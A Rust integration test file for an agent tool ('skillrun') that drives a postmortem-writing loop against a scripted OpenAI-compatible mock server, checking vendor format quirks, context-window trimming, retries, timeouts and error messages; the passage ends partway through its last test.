//! The agent loop against a scripted OpenAI-compatible server on loopback (wiremock).

use std::collections::VecDeque;
use std::path::Path;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use wiremock::matchers::{header, method, path, query_param};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};

use skillrun::agent::{self, Budget, Outcome, RunOptions, RunReport};
use skillrun::model::{ModelError, OpenAiModel, RetryPolicy};
use skillrun::skill::Skill;

use super::support::{PaymentsRepo, payments_repo, seed_path, skillrun, valid_postmortem};

/// Answers requests from a queue; when it runs dry, the model says it is done (no tool call).
struct Script(Mutex<VecDeque<ResponseTemplate>>);

impl Respond for Script {
    fn respond(&self, _: &Request) -> ResponseTemplate {
        self.0
            .lock()
            .expect("script lock")
            .pop_front()
            .unwrap_or_else(|| completion(json!({"role": "assistant", "content": "I am done."})))
    }
}

fn completion(message: Value) -> ResponseTemplate {
    completion_counted(message, 100)
}

/// An answer whose usage counts `prompt_tokens` for the request.
fn completion_counted(message: Value, prompt_tokens: u32) -> ResponseTemplate {
    let finish = if message.get("tool_calls").is_some() {
        "tool_calls"
    } else {
        "stop"
    };
    ResponseTemplate::new(200).set_body_json(json!({
        "id": "chatcmpl-test",
        "object": "chat.completion",
        "created": 1_700_000_000,
        "model": "test-model",
        "choices": [{"index": 0, "message": message, "finish_reason": finish}],
        "usage": {"prompt_tokens": prompt_tokens, "completion_tokens": 20,
            "total_tokens": prompt_tokens + 20}
    }))
}

/// An assistant message calling tools: (id, name, arguments as sent, possibly not JSON).
fn call_message(list: &[(&str, &str, String)]) -> Value {
    let tool_calls: Vec<Value> = list
        .iter()
        .map(|(id, name, args)| {
            json!({"id": id, "type": "function", "function": {"name": name, "arguments": args}})
        })
        .collect();
    json!({"role": "assistant", "content": null, "tool_calls": tool_calls})
}

/// A `read_file` call of `path`, for [`calls`].
fn read_call<'a>(id: &'a str, path: &str) -> (&'a str, &'a str, String) {
    (id, "read_file", json!({ "path": path }).to_string())
}

/// An answer calling tools: (id, name, arguments as sent, possibly not JSON).
fn calls(list: &[(&str, &str, String)]) -> ResponseTemplate {
    completion(call_message(list))
}

/// An answer submitting `markdown`. It counts more prompt tokens than the other answers, as
/// a request later in a conversation does.
fn submit(id: &str, markdown: &str, slug: &str) -> ResponseTemplate {
    completion_counted(
        call_message(&[(
            id,
            "submit_document",
            json!({"markdown": markdown, "slug": slug}).to_string(),
        )]),
        150,
    )
}

/// A server on loopback whose `/v1/chat/completions` answers as `responder` says.
async fn serve(responder: impl Respond + 'static) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/v1/chat/completions"))
        .respond_with(responder)
        .mount(&server)
        .await;
    server
}

fn script(answers: Vec<ResponseTemplate>) -> Script {
    Script(Mutex::new(answers.into()))
}

async fn server(answers: Vec<ResponseTemplate>) -> MockServer {
    serve(script(answers)).await
}

fn fast_retry() -> RetryPolicy {
    RetryPolicy {
        attempts: 3,
        base_delay: Duration::from_millis(10),
        max_delay: Duration::from_millis(50),
        timeout: Duration::from_secs(10),
    }
}

async fn run_with(
    server: &MockServer,
    repo: &Path,
    retry: RetryPolicy,
    budget: Budget,
) -> RunReport {
    let skill = Skill::load(&seed_path()).expect("seed");
    let mut model = OpenAiModel::new(
        &format!("{}/v1", server.uri()),
        "test-model",
        Some("sk-test-key".into()),
        retry,
    )
    .expect("model");
    let opts = RunOptions {
        prompt: "write a postmortem for the payment outage".into(),
        repo: repo.to_path_buf(),
        skill: &skill,
        budget,
        runs_dir: None,
        force: false,
        apply_guardrails: false,
    };
    agent::run(&mut model, opts, &mut |_| {})
        .await
        .expect("run")
}

async fn bodies(server: &MockServer) -> Vec<Value> {
    server
        .received_requests()
        .await
        .expect("recording on")
        .iter()
        .map(|r| r.body_json::<Value>().expect("request is JSON"))
        .collect()
}

/// The run wrote `doc`, as sent, to `docs/postmortems/regression-<slug>.md`.
fn assert_written(report: &RunReport, repo: &Path, slug: &str, doc: &str) {
    let expected = Path::new("docs/postmortems").join(format!("regression-{slug}.md"));
    assert_eq!(
        report.outcome,
        Outcome::Written {
            path: expected.clone()
        }
    );
    assert_eq!(
        std::fs::read_to_string(repo.join(expected)).expect("written"),
        doc
    );
}

/// `skillrun run` on `repo` against the server at `base_url` as `--model MODEL`, with
/// `OPENAI_API_KEY` set to `key` (`--quiet` prints only the written path).
async fn cli_run(
    repo: &Path,
    base_url: String,
    model: &str,
    key: &str,
    quiet: bool,
) -> std::process::Output {
    let (repo, model, key) = (repo.to_path_buf(), model.to_string(), key.to_string());
    tokio::task::spawn_blocking(move || {
        let mut cmd = skillrun();
        cmd.args([
            "run",
            "write a postmortem for the payment outage",
            "--model",
        ])
        .arg(&model)
        .args(["--base-url", &base_url, "--repo"])
        .arg(&repo)
        .env("OPENAI_API_KEY", &key);
        if quiet {
            cmd.arg("--quiet");
        }
        cmd.output().expect("runs")
    })
    .await
    .expect("joined")
}

fn postmortems(p: &PaymentsRepo) -> Vec<String> {
    let dir = p.repo.path().join("docs/postmortems");
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|d| {
            d.filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

/// A raw answer body, as a server that is OpenAI-compatible only in the main sent it.
fn raw(body: Value) -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_json(body)
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_of_compatible_servers_that_differ_from_openai_still_drive_the_run() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![
        // text-generation-inference's finish reason; no id, type, created or object; the
        // arguments as an object; two calls, one without arguments and with an empty id.
        raw(json!({
            "model": "local",
            "choices": [{"finish_reason": "eos_token", "message": {"role": "assistant",
                "tool_calls": [
                    {"function": {"name": "git_log", "arguments": {"path": "src/payments"}}},
                    {"id": "", "function": {"name": "scan_postmortems", "arguments": ""}}
                ]}}],
            "usage": {"prompt_tokens": 100, "completion_tokens": 20}
        })),
        // Content as a list of parts, a reused id, a finish reason from another vendor.
        raw(json!({
            "id": "x", "object": "chat.completion", "created": 1.7e9, "model": "local",
            "choices": [{"index": 0, "finish_reason": "end_turn", "message": {
                "content": [{"type": "text", "text": "Submitting."}],
                "tool_calls": [{"id": "dup", "type": "function", "function": {
                    "name": "submit_document",
                    "arguments": json!({"markdown": doc, "slug": "payment-retry"}).to_string()}},
                    {"id": "dup", "type": "function", "function": {
                    "name": "read_file", "arguments": "{\"path\": \"README.md\"}"}}]}}]
        })),
    ])
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;

    assert_written(&report, p.repo.path(), "payment-retry", &doc);
    assert_eq!((report.turns, report.tool_calls), (2, 3));
    assert_eq!((report.prompt_tokens, report.completion_tokens), (100, 20));

    // The second request pairs each tool result with the id the assistant message carries.
    let bodies = bodies(&server).await;
    let second = bodies[1]["messages"].as_array().expect("messages");
    let ids: Vec<&str> = second[2]["tool_calls"]
        .as_array()
        .expect("calls")
        .iter()
        .map(|c| {
            assert_eq!(c["type"], "function");
            c["id"].as_str().expect("id")
        })
        .collect();
    assert_eq!(ids.len(), 2);
    assert!(
        ids.iter().all(|id| !id.is_empty()) && ids[0] != ids[1],
        "{ids:?}"
    );
    assert_eq!(second[3]["tool_call_id"], ids[0]);
    assert_eq!(second[4]["tool_call_id"], ids[1]);
    assert_eq!(
        second[2]["tool_calls"][0]["function"]["arguments"],
        json!({"path": "src/payments"}).to_string()
    );
    let scanned = second[4]["content"].as_str().expect("tool text");
    assert!(!scanned.starts_with("error:"), "{scanned}");
}

#[tokio::test(flavor = "multi_thread")]
async fn tool_calls_a_model_writes_as_text_are_run_as_calls() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![
        // Ollama with qwen2.5-coder: the call as bare JSON in content, no tool_calls.
        completion(json!({"role": "assistant", "tool_calls": null,
            "content": json!({"name": "git_log", "arguments": {"path": "src/payments"}}).to_string()})),
        // A Hermes-style model whose server left its tags in the text.
        completion(json!({"role": "assistant", "content": format!(
            "Here is the document.\n<tool_call>\n{}\n</tool_call>",
            json!({"name": "submit_document", "arguments": {"markdown": doc, "slug": "payment-retry"}})
        )})),
    ])
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert_written(&report, p.repo.path(), "payment-retry", &doc);
    assert_eq!((report.turns, report.tool_calls), (2, 2));
    let bodies = bodies(&server).await;
    let second = bodies[1]["messages"].as_array().expect("messages");
    assert_eq!(second[2]["content"], Value::Null);
    assert_eq!(second[2]["tool_calls"][0]["function"]["name"], "git_log");
    assert_eq!(second[3]["tool_call_id"], second[2]["tool_calls"][0]["id"]);
    assert!(
        second[3]["content"]
            .as_str()
            .is_some_and(|t| t.contains("source: tool=git_log")),
        "{}",
        second[3]["content"]
    );
}

/// A server whose model has a context window: a request more than `margin` bytes longer
/// than the first one is refused as OpenAI refuses it; the others get the script's answers.
struct ContextWindow {
    margin: isize,
    first: Mutex<Option<usize>>,
    script: Script,
}

impl Respond for ContextWindow {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let len = request.body.len();
        let first = *self.first.lock().expect("lock").get_or_insert(len);
        if len as isize > first as isize + self.margin {
            return ResponseTemplate::new(400).set_body_json(json!({"error": {
                "message": format!("This model's maximum context length is 8192 tokens. However, your messages resulted in {} tokens.", len / 3),
                "type": "invalid_request_error", "param": "messages",
                "code": "context_length_exceeded"}}));
        }
        self.script.respond(request)
    }
}

async fn context_window_server(margin: isize, answers: Vec<ResponseTemplate>) -> MockServer {
    serve(ContextWindow {
        margin,
        first: Mutex::new(None),
        script: script(answers),
    })
    .await
}

/// The payments repository with a runbook of about 4 KB in `docs/runbook.md`, whose reading
/// will not fit beside the rest of a small context.
fn repo_with_runbook() -> PaymentsRepo {
    let p = payments_repo();
    let runbook: String = (1..=60)
        .map(|i| format!("{i}. Check the gateway dashboard, then page the on-call engineer.\n"))
        .collect();
    p.repo.write("docs/runbook.md", &runbook);
    p
}

#[tokio::test(flavor = "multi_thread")]
async fn a_conversation_that_outgrows_the_context_window_drops_its_oldest_tool_results() {
    let p = repo_with_runbook();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = context_window_server(
        2000,
        vec![
            calls(&[
                read_call("call_1", "docs/runbook.md"),
                read_call("call_2", "src/payments/retry.rs"),
            ]),
            submit("call_3", &doc, "payment-retry"),
        ],
    )
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert_written(&report, p.repo.path(), "payment-retry", &doc);

    // Refused as too long, then asked again with the older result replaced by a note.
    let bodies = bodies(&server).await;
    assert_eq!(bodies.len(), 3);
    let refused = bodies[1]["messages"].as_array().expect("messages");
    assert!(
        refused[3]["content"]
            .as_str()
            .is_some_and(|t| t.contains("page the on-call engineer")),
        "{}",
        refused[3]
    );
    let messages = bodies[2]["messages"].as_array().expect("messages");
    assert_eq!(messages.len(), refused.len());
    assert_eq!(messages[0], refused[0], "the system prompt stays");
    assert_eq!(messages[2], refused[2], "the model's calls stay");
    assert_eq!(messages[3]["tool_call_id"], "call_1");
    assert_eq!(
        messages[3]["content"],
        "[removed to fit the model's context window: the result of `read_file`; call it again if you still need it]"
    );
    assert_eq!(messages[4], refused[4], "the newer result stays");
    let transcript =
        std::fs::read_to_string(report.run_dir.join("transcript.jsonl")).expect("transcript");
    assert!(
        transcript.contains(r#""removed_results":1"#),
        "{transcript}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_removed_to_fit_the_context_is_answered_when_asked_for_again() {
    let p = repo_with_runbook();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let read_runbook = |id: &str| {
        calls(&[(
            id,
            "read_file",
            json!({"path": "docs/runbook.md"}).to_string(),
        )])
    };
    let server = context_window_server(
        5000,
        vec![
            read_runbook("call_1"),
            calls(&[("call_2", "git_log", json!({"limit": 3}).to_string())]),
            // The runbook again, after its first reading was replaced by a note.
            read_runbook("call_3"),
            submit("call_4", &doc, "payment-retry"),
        ],
    )
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert_written(&report, p.repo.path(), "payment-retry", &doc);

    let bodies = bodies(&server).await;
    let answered = bodies
        .iter()
        .filter_map(|b| b["messages"].as_array())
        .flatten()
        .filter(|m| m["tool_call_id"] == "call_3")
        .any(|m| {
            m["content"]
                .as_str()
                .is_some_and(|t| t.contains("page the on-call engineer"))
        });
    assert!(
        answered,
        "the second reading was run, not refused as a repeat"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_first_request_longer_than_the_context_window_fails_once_and_clearly() {
    let p = payments_repo();
    let server = context_window_server(-1, vec![]).await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    match &report.outcome {
        Outcome::Failed { reason, .. } => {
            assert!(
                reason.starts_with(
                    "model error: the conversation does not fit the model's context window (HTTP 400): This model's maximum context length is 8192 tokens. However, your messages resulted in"
                ),
                "{reason}"
            );
            assert!(
                reason.ends_with(
                    " tokens; give the model a larger context window (for a local server, its context-size setting)"
                ),
                "{reason}"
            );
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(bodies(&server).await.len(), 1, "refused, not retried");
}

/// A server whose model's chat template has no system role, answering as vLLM does.
struct NoSystemRole(Script);

impl Respond for NoSystemRole {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let body: Value = request.body_json().expect("JSON");
        if body["messages"]
            .as_array()
            .is_some_and(|m| m.iter().any(|m| m["role"] == "system"))
        {
            return ResponseTemplate::new(400).set_body_json(json!({"object": "error",
                "message": "System role not supported", "type": "BadRequestError",
                "param": null, "code": 400}));
        }
        self.0.respond(request)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_model_without_a_system_role_gets_the_system_prompt_in_the_first_user_message() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = serve(NoSystemRole(script(vec![
        calls(&[("call_1", "git_log", json!({"limit": 2}).to_string())]),
        submit("call_2", &doc, "payment-retry"),
    ])))
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert_written(&report, p.repo.path(), "payment-retry", &doc);

    let bodies = bodies(&server).await;
    assert_eq!(bodies.len(), 3, "refused once, then two turns");
    let system = bodies[0]["messages"][0]["content"]
        .as_str()
        .expect("system");
    for body in &bodies[1..] {
        let first = &body["messages"][0];
        assert_eq!(first["role"], "user");
        assert_eq!(
            first["content"],
            format!("{system}\n\nwrite a postmortem for the payment outage")
        );
    }
    assert_eq!(bodies[2]["messages"][1]["tool_calls"][0]["id"], "call_1");
}

/// A server for a reasoning model that wants its thinking back on each message, as
/// DeepSeek's API does, and the signature it put on a tool call back on that call, as
/// Gemini's OpenAI-compatible API does.
struct WantsItsFieldsBack(Script);

impl Respond for WantsItsFieldsBack {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let body: Value = request.body_json().expect("JSON");
        let messages = body["messages"].as_array().expect("messages");
        if let Some(i) = messages
            .iter()
            .position(|m| m["role"] == "assistant" && !m["reasoning_content"].is_string())
        {
            return ResponseTemplate::new(400).set_body_json(json!({"error": {
                "message": format!("Missing `reasoning_content` field in the assistant message at message index {i}."),
                "type": "invalid_request_error", "param": null, "code": "invalid_request_error"}}));
        }
        let signed = messages
            .iter()
            .filter_map(|m| m["tool_calls"].as_array())
            .flatten()
            .find(|c| c["id"] == "call_1");
        if signed.is_some_and(|c| c["extra_content"]["google"]["thought_signature"] != "sig-1") {
            return ResponseTemplate::new(400).set_body_json(json!([{"error": {"code": 400,
                "message": "Function call is missing a thought_signature in functionCall parts.",
                "status": "INVALID_ARGUMENT"}}]));
        }
        self.0.respond(request)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_server_puts_on_its_messages_and_calls_goes_back_with_them() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let thinking = |text: &str, message: Value| {
        let mut message = message;
        message["reasoning_content"] = Value::from(text);
        completion(message)
    };
    let server = serve(WantsItsFieldsBack(script(vec![
        thinking(
            "First, the history of the retry module.",
            json!({"role": "assistant", "content": null, "tool_calls": [{"id": "call_1",
                        "type": "function", "function": {"name": "git_log",
                        "arguments": json!({"path": "src/payments"}).to_string()},
                        "extra_content": {"google": {"thought_signature": "sig-1"}}}]}),
        ),
        thinking(
            "The log is enough; read the file.",
            json!({"role": "assistant", "content": "Reading it.", "tool_calls": [{"id": "call_2",
                        "type": "function", "function": {"name": "read_file",
                        "arguments": json!({"path": "src/payments/retry.rs"}).to_string()}}]}),
        ),
        submit("call_3", &doc, "payment-retry"),
    ])))
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert_written(&report, p.repo.path(), "payment-retry", &doc);
    let bodies = bodies(&server).await;
    assert_eq!(bodies.len(), 3, "no request was refused");
    let last = bodies[2]["messages"].as_array().expect("messages");
    let sent: Vec<&str> = last
        .iter()
        .filter(|m| m["role"] == "assistant")
        .map(|m| m["reasoning_content"].as_str().expect("thinking sent back"))
        .collect();
    assert_eq!(
        sent,
        [
            "First, the history of the retry module.",
            "The log is enough; read the file."
        ]
    );
    assert_eq!(
        last[2]["tool_calls"][0]["extra_content"],
        json!({"google": {"thought_signature": "sig-1"}})
    );
    assert!(last[4]["tool_calls"][0].get("extra_content").is_none());

    // The thinking is in the transcript beside each message, for whoever reads the run.
    let transcript =
        std::fs::read_to_string(report.run_dir.join("transcript.jsonl")).expect("transcript");
    let thoughts: Vec<String> = transcript
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|r| r["type"] == "response")
        .map(|r| r["reasoning"].as_str().unwrap_or("-").to_string())
        .collect();
    assert_eq!(
        thoughts,
        [
            "First, the history of the retry module.",
            "The log is enough; read the file.",
            "-"
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_silently_cuts_the_conversation_is_named_in_a_warning() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let answers = |counts: [u32; 3]| {
        vec![
            completion_counted(
                call_message(&[("call_1", "git_log", json!({"limit": 5}).to_string())]),
                counts[0],
            ),
            completion_counted(
                call_message(&[read_call("call_2", "src/payments/retry.rs")]),
                counts[1],
            ),
            completion_counted(
                call_message(&[(
                    "call_3",
                    "submit_document",
                    json!({"markdown": doc, "slug": "payment-retry"}).to_string(),
                )]),
                counts[2],
            ),
        ]
    };
    // A run against a server counting `counts` prompt tokens, as the CLI prints it.
    let stderr_of = async |repo: &Path, counts: [u32; 3], quiet: bool| {
        let server = server(answers(counts)).await;
        let out = cli_run(repo, format!("{}/v1", server.uri()), "openai:m", "", quiet).await;
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(0), "{stderr}");
        stderr
    };
    // As Ollama at its default context: every request counted as the window, however long.
    let stderr = stderr_of(p.repo.path(), [4096, 4096, 4096], true).await;
    assert_eq!(
        stderr
            .matches("warning: the server counted 4096 prompt tokens, no more than the 4096 of the request before")
            .count(),
        1,
        "once, and even under --quiet: {stderr}"
    );
    assert!(stderr.contains("OLLAMA_CONTEXT_LENGTH"), "{stderr}");

    // Counts that grow with the conversation draw no warning.
    let stderr = stderr_of(payments_repo().repo.path(), [4700, 5100, 5600], false).await;
    assert!(!stderr.contains("warning:"), "{stderr}");
    // The progress lines count the tokens the server reported (20 completion tokens each).
    assert!(stderr.contains("turn 1 (4720 tokens so far)\n"), "{stderr}");
    assert!(
        stderr.contains("3 turns, 3 tool calls, 15400 prompt + 60 completion tokens\n"),
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn parallel_tool_calls_then_a_valid_document_is_written_once() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![
        calls(&[
            (
                "call_1",
                "git_log",
                json!({"path": "src/payments"}).to_string(),
            ),
            read_call("call_2", "src/payments/retry.rs"),
        ]),
        submit("call_3", &doc, "payment-retry-thundering-herd"),
    ])
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;

    assert_written(
        &report,
        p.repo.path(),
        "payment-retry-thundering-herd",
        &doc,
    );
    assert_eq!((report.turns, report.tool_calls), (2, 3));
    assert_eq!((report.prompt_tokens, report.completion_tokens), (250, 40));

    // The wire format, as the server received it.
    let bodies = bodies(&server).await;
    assert_eq!(bodies.len(), 2);
    let first = &bodies[0];
    assert_eq!(first["model"], "test-model");
    assert_eq!(first["tool_choice"], "auto");
    assert_eq!(first["messages"][0]["role"], "system");
    assert_eq!(first["messages"][1]["role"], "user");
    let tools: Vec<&str> = first["tools"]
        .as_array()
        .expect("tools")
        .iter()
        .map(|t| {
            assert_eq!(t["type"], "function");
            assert!(t["function"]["parameters"]["properties"].is_object());
            t["function"]["name"].as_str().expect("name")
        })
        .collect();
    assert_eq!(
        tools,
        vec![
            "git_log",
            "git_show",
            "git_blame",
            "search_files",
            "read_file",
            "scan_postmortems",
            "git_releases",
            "trace_regression",
            "submit_document"
        ]
    );
    let second = bodies[1]["messages"].as_array().expect("messages");
    assert_eq!(second.len(), 5);
    assert_eq!(second[2]["role"], "assistant");
    assert_eq!(second[2]["tool_calls"][1]["id"], "call_2");
    assert_eq!(second[3]["role"], "tool");
    assert_eq!(second[3]["tool_call_id"], "call_1");
    assert_eq!(second[4]["tool_call_id"], "call_2");
    let read = second[4]["content"].as_str().expect("tool text");
    assert!(read.starts_with("<<<REPOSITORY DATA "), "{read}");
    assert!(read.contains("source: tool=read_file"), "{read}");
    assert!(read.contains("pub fn backoff"), "{read}");

    // The run folder keeps the transcript and the outcome.
    let transcript =
        std::fs::read_to_string(report.run_dir.join("transcript.jsonl")).expect("transcript");
    let kinds: Vec<String> = transcript
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).expect("jsonl")["type"]
                .as_str()
                .unwrap_or("")
                .to_string()
        })
        .collect();
    assert_eq!(
        kinds,
        vec![
            "start",
            "request",
            "response",
            "tool_call",
            "tool_call",
            "request",
            "response",
            "submit",
            "outcome"
        ]
    );
    assert!(report.run_dir.join("outcome.json").is_file());
}

#[tokio::test(flavor = "multi_thread")]
async fn retry_after_is_honoured_and_5xx_is_retried() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![
        ResponseTemplate::new(429)
            .insert_header("Retry-After", "1")
            .set_body_json(json!({"error": {"message": "rate limited", "type": "rate_limit"}})),
        ResponseTemplate::new(500).set_body_json(json!({"error": {"message": "boom"}})),
        submit("call_1", &doc, "payment-retry"),
    ])
    .await;
    let started = Instant::now();
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert!(
        matches!(report.outcome, Outcome::Written { .. }),
        "{report:?}"
    );
    // The 429 asked for a second; the backoff alone is 10-50 ms.
    assert!(
        started.elapsed() >= Duration::from_millis(900),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(bodies(&server).await.len(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_timeout_is_retried_then_reported_clearly() {
    let slow = || {
        completion(json!({"role": "assistant", "content": "late"}))
            .set_delay(Duration::from_secs(3))
    };
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let retry = RetryPolicy {
        timeout: Duration::from_millis(500),
        ..fast_retry()
    };
    // One slow answer, then a good one: the run succeeds.
    let server1 = server(vec![slow(), submit("call_1", &doc, "payment-retry")]).await;
    let report = run_with(&server1, p.repo.path(), retry.clone(), Budget::default()).await;
    assert!(
        matches!(report.outcome, Outcome::Written { .. }),
        "{report:?}"
    );

    // Only slow answers: the run fails with the reason, and writes nothing. A server that
    // let the whole timeout pass twice is not waited on a third time.
    let q = payments_repo();
    let server2 = server(vec![slow(), slow(), slow()]).await;
    let report = run_with(&server2, q.repo.path(), retry, Budget::default()).await;
    match &report.outcome {
        Outcome::Failed { reason, draft } => {
            assert_eq!(
                reason,
                "model error: the model server kept failing after 2 attempts; last: no answer within 500ms (a slow server, such as a local model on a CPU, needs a longer --request-timeout)"
            );
            assert_eq!(draft, &None);
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(bodies(&server2).await.len(), 2);
    assert!(postmortems(&q).is_empty());
}

/// A server that takes connections and never answers: the run says so at each retry, on
/// stderr (and as a `retrying` event under --json), instead of waiting in silence.
#[tokio::test(flavor = "multi_thread")]
async fn each_retry_of_a_silent_server_gets_a_line() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let addr = listener.local_addr().expect("addr");
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming().take(8) {
            held.push(stream);
        }
    });
    let p = payments_repo();
    for json in [false, true] {
        let runs = tempfile::tempdir().expect("tmp");
        let mut cmd = skillrun();
        cmd.args(["run", "write a postmortem for the payment outage"])
            .args([
                "--model",
                "openai:m",
                "--request-timeout",
                "1",
                "--base-url",
            ])
            .arg(format!("http://{addr}/v1"))
            .arg("--repo")
            .arg(p.repo.path())
            .arg("--runs-dir")
            .arg(runs.path());
        if json {
            cmd.arg("--json");
        }
        let out = cmd.assert().code(1).get_output().clone();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        if json {
            let retry: Value = stdout
                .lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .find(|v| v["event"] == "retrying")
                .unwrap_or_else(|| panic!("{stdout}"));
            assert_eq!(retry["attempt"], 1, "{retry}");
            assert!(
                retry["why"]
                    .as_str()
                    .is_some_and(|w| w.starts_with("no answer within 1s")),
                "{retry}"
            );
        } else {
            assert!(
                stderr.contains("the model server failed (attempt 1 of 5): no answer within 1s"),
                "{stderr}"
            );
            assert!(stderr.contains("kept failing after 2 attempts"), "{stderr}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn unauthorized_quota_and_unknown_model_are_final_and_clear() {
    let cases = [
        (
            ResponseTemplate::new(401).set_body_json(json!({"error": {"message": "bad key"}})),
            "the model server refused the credentials (HTTP 401): check OPENAI_API_KEY for ",
        ),
        (
            ResponseTemplate::new(429).set_body_json(json!({"error": {"message": "You exceeded your quota", "code": "insufficient_quota"}})),
            "the model server says the account has no quota left (HTTP 429): You exceeded your quota",
        ),
        (
            ResponseTemplate::new(404).set_body_json(json!({"error": {"message": "model 'test-model' not found"}})),
            "model `test-model` was not found at ",
        ),
    ];
    for (response, says) in cases {
        let server = server(vec![response]).await;
        let mut model = OpenAiModel::new(
            &format!("{}/v1", server.uri()),
            "test-model",
            Some("sk-test".into()),
            fast_retry(),
        )
        .expect("model");
        let request = Default::default();
        let err: ModelError = skillrun::model::Model::next(&mut model, &request)
            .await
            .expect_err("fails");
        assert!(err.to_string().starts_with(says), "{err}");
        // Final: asked once, not retried.
        assert_eq!(bodies(&server).await.len(), 1, "{says}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_hands_the_model_no_tools_is_final_and_says_what_to_change() {
    let cases = [
        // Ollama, for a model without a tool template.
        ResponseTemplate::new(400).set_body_json(json!({"error": {"message": "gemma2:2b does not support tools", "type": "api_error", "param": null, "code": null}})),
        // llama.cpp's server started without --jinja: a 500, which is otherwise retried.
        ResponseTemplate::new(500).set_body_json(json!({"error": {"code": 500, "message": "tools param requires --jinja flag", "type": "server_error"}})),
        // vLLM started without --enable-auto-tool-choice.
        ResponseTemplate::new(400).set_body_json(json!({"object": "error", "message": "\"auto\" tool choice requires --enable-auto-tool-choice and --tool-call-parser to be set", "type": "BadRequestError", "param": null, "code": 400})),
    ];
    for response in cases {
        let server = server(vec![response.clone(), response]).await;
        let mut model = OpenAiModel::new(
            &format!("{}/v1", server.uri()),
            "test-model",
            None,
            fast_retry(),
        )
        .expect("model");
        let err = skillrun::model::Model::next(&mut model, &Default::default())
            .await
            .expect_err("fails");
        let says = err.to_string();
        assert!(matches!(err, ModelError::NoTools { .. }), "{err:?}");
        assert!(
            says.starts_with("the model server offers this model no tool calling (HTTP "),
            "{says}"
        );
        assert!(
            says.contains("--jinja") && says.contains("--model offline"),
            "{says}"
        );
        assert_eq!(bodies(&server).await.len(), 1, "{says}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_model_that_never_calls_a_tool_is_told_how_to_give_it_tools() {
    let p = payments_repo();
    let prose = || {
        completion(
            json!({"role": "assistant", "content": "The outage was caused by a retry change."}),
        )
    };
    let server = server(vec![prose(), prose()]).await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    let Outcome::Failed { reason, draft } = &report.outcome else {
        panic!("{:?}", report.outcome)
    };
    assert!(draft.is_none());
    assert!(
        reason.starts_with(
            "the model stopped without submitting a valid document, and without calling any tool; "
        ),
        "{reason}"
    );
    assert!(reason.contains("--jinja"), "{reason}");
    assert!(
        reason.ends_with("it said: \"The outage was caused by a retry change.\""),
        "{reason}"
    );
    // Asked twice: the first answer gets a nudge, the second ends the run.
    assert_eq!(bodies(&server).await.len(), 2);
    assert!(postmortems(&p).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_arguments_and_unknown_tools_go_back_to_the_model() {
    let p = payments_repo();
    let doc = valid_postmortem(&p.bug, &p.fix);
    let server = server(vec![
        calls(&[
            ("call_1", "git_log", "{not json".to_string()),
            ("call_2", "delete_everything", "{}".to_string()),
            ("call_3", "git_blame", json!({"path": 7}).to_string()),
        ]),
        submit("call_4", &doc, "payment-retry"),
    ])
    .await;
    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
    assert!(
        matches!(report.outcome, Outcome::Written { .. }),
        "{report:?}"
    );
